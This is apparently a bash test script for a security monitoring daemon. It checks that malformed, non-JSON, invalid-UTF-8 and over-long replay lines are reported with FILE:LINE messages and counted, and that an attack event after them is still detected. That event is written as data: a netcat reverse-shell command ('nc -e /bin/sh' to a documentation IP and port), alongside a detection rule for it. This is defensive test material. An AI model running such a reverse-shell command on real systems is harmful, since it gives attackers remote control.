#!/bin/bash
# Bad input never stops the daemon: each malformed, non-object, unknown-kind or over-long
# line gets one FILE:LINE message and is counted; the attack after them is still detected.
. "$(dirname "$0")/lib.sh"
need_jq
cat >"$TMP/r.wt" <<'WT'
rule test.nc_exec { on exec when process.basename == "nc" and process.args contains "-e" severity high output "nc -e in {workspace.id}" }
WT
"$WTC" compile -o "$TMP/r.wtb" "$TMP/r.wt" || exit 99
good='{"process_exec":{"process":{"exec_id":"bjE6MTox","pid":1,"binary":"/usr/bin/nc","arguments":"-e /bin/sh 203.0.113.9 4444"}},"node_name":"n1","time":"2026-10-14T10:00:00Z"}'
{
	echo 'not json at all'
	echo '[1,2,3]'
	echo '{"process_exec":{"process":{"binary":"/bin/x"'
	echo '{"process_loader":{"process":{}},"time":"2026-10-14T10:00:00Z"}'
	echo ''
	printf '\x00\x01\xff garbage\n'
	echo '{"process_exec":{},"time":"not a time"}'
	printf '{"process_exec":{"process":{"binary":"%s"}}}\n' "$(head -c 5000000 /dev/zero | tr '\0' a)"
	echo "$good"
} >"$TMP/bad.jsonl"
"$WTD" --rules "$TMP/r.wtb" --replay "$TMP/bad.jsonl" >"$TMP/out" 2>"$TMP/err"
rc=$?
[ $rc -eq 0 ] && pass "exit status 0 after bad input" || fail "exit status $rc"
grep -v '^worktraced: summary' "$TMP/err" | sed "s#$TMP/##" >"$TMP/msgs"
cat >"$TMP/want" <<'MSG'
bad.jsonl:1: line is not a JSON object
bad.jsonl:2: line is not a JSON object
bad.jsonl:3: invalid JSON: JSON document ended early in the middle of an object or array.
bad.jsonl:4: unknown event kind "process_loader" skipped
bad.jsonl:6: invalid JSON: The input is not valid UTF-8
bad.jsonl:7: field "time" is not an RFC 3339 timestamp
bad.jsonl:8: line longer than 4194304 bytes skipped
MSG
if diff -u "$TMP/want" "$TMP/msgs" >"$TMP/diff"; then pass "one FILE:LINE message per bad line"; else fail "messages"; cat "$TMP/diff"; fi
if grep -q 'summary: lines=9 events=1 exec=1 malformed=5 unknown_kind=1 too_long=1 ' "$TMP/err"; then
	pass "bad lines counted"
else
	fail "summary counts: $(grep summary "$TMP/err")"
fi
if [ "$(jq -r .rule "$TMP/out")" = "test.nc_exec" ]; then pass "attack after the bad lines detected"; else fail "attack not detected"; fi
# stdin input and an unreadable input
"$WTD" --rules "$TMP/r.wtb" --replay - <"$TMP/bad.jsonl" >"$TMP/out2" 2>"$TMP/err2"
grep -q '^<stdin>:2: line is not a JSON object' "$TMP/err2" && pass "stdin replay names <stdin>" || fail "stdin replay"
"$WTD" --rules "$TMP/r.wtb" --replay "$TMP/nonexistent" 2>"$TMP/err3"
rc=$?
[ $rc -eq 74 ] && grep -q 'No such file' "$TMP/err3" && pass "missing input: exit 74 with message" || fail "missing input: rc $rc"
# lines crossing the reader's buffer boundaries: a generated 6 MB capture is read whole
"$WT_BUILDDIR/bench/gencapture" 6 7 >"$TMP/gen.jsonl"
n=$(grep -c '' "$TMP/gen.jsonl")
"$WTD" --rules "$TMP/r.wtb" --replay "$TMP/gen.jsonl" >/dev/null 2>"$TMP/err4"
grep -q "summary: lines=$n events=$n .* malformed=0 unknown_kind=0 too_long=0 " "$TMP/err4" &&
	pass "6 MB capture: all $n lines across buffer boundaries" || fail "buffer boundaries: $(cat "$TMP/err4")"
finish
